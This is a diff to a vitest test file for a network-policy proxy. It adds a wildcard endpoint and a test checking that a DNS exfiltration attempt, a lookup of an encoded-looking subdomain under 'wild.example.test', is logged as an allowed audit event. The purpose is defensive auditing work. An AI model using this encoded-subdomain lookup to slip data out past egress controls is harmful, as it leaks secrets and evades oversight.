@@ -8,7 +8,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { HttpReader, type Rig, connectTunnel, eventsOf, relayConnect, send, startRig } from './harness.js';
 
 let rig: Rig;
+const asked: string[] = [];
 const noSuchName = async (host: string): Promise<never> => {
+  asked.push(host);
   throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
 };
 
@@ -21,6 +23,7 @@ network_policies:
     endpoints:
       - { host: gone.example.test, port: 443 }
       - { host: gone.example.test, port: 80, protocol: rest, access: full }
+      - { host: "*.wild.example.test", port: 443 }
     binaries: [ { path: /usr/bin/curl } ]
 `,
     resolver: noSuchName,
@@ -54,6 +57,25 @@ describe('an allowed name that does not resolve', () => {
       reason: 'name did not resolve (ENOTFOUND)',
     });
     expect(eventsOf(rig.audit, 4001).filter((e) => e.disposition === 'Blocked')).toEqual([]);
+    const traced = eventsOf(rig.audit, 4001).filter(
+      (e) => e.disposition === 'Allowed' && (e.dst_endpoint as { port?: number }).port === 80,
+    );
+    expect(traced).toHaveLength(1);
+    expect(String(traced[0]!.unmapped.reason)).toContain('name did not resolve (ENOTFOUND)');
     s.destroy();
+  });
+
+  // The name is the agent's to choose under a wildcard, and the host's resolver asks for it: a
+  // channel out (DNS exfiltration) that must leave a trace, allowed (no denial, no proposal).
+  it('leaves an allowed 4001 line naming the host and why it failed', async () => {
+    const name = 'onswg4tfoqqgwzlz.wild.example.test';
+    const t = await connectTunnel(rig.socketPath, `${name}:443`);
+    expect(t.status).toBe(502);
+    t.socket.destroy();
+    expect(asked).toContain(name);
+    const lines = rig.audit.events.filter((e) => JSON.stringify(e).includes(name));
+    expect(lines).toHaveLength(1);
+    expect(lines[0]).toMatchObject({ class_uid: 4001, disposition: 'Allowed' });
+    expect(String(lines[0]!.unmapped.reason)).toContain('name did not resolve (ENOTFOUND)');
   });
 });
